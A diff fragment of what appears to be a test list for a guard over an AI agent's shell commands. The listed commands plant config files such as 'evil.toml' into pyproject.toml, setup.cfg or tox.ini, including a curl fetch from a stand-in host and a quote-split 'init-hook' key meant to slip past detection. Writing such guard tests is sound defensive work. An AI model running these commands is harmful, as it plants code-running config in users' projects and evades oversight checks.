@@ -76,6 +76,8 @@ def tool(build: Path, m: dict[str, Path], name: str, tool_input: dict[str, objec
     "git show HEAD:evil.toml > pyproject.toml",
     "sed -i 's/hoo/hook/' half.toml && cp half.toml pyproject.toml",   # a file an earlier step changes
     "cat *.toml > setup.cfg",                                  # a glob's matches
+    "find . -name evil.toml -exec cp {{}} pyproject.toml \\;",  # any file under a folder read whole ({{}}: format)
+    "cp evil.toml /tmp/x && cp /tmp/x pyproject.toml",
     "curl -s https://x.example/p.toml -o pyproject.toml",     # the network's text
     "echo 'init-ho''ok=x' >> tox.ini",                         # quotes in the key
     "sed -i 's/sys/os/' sub/pyproject.toml",                   # the file holds a key already
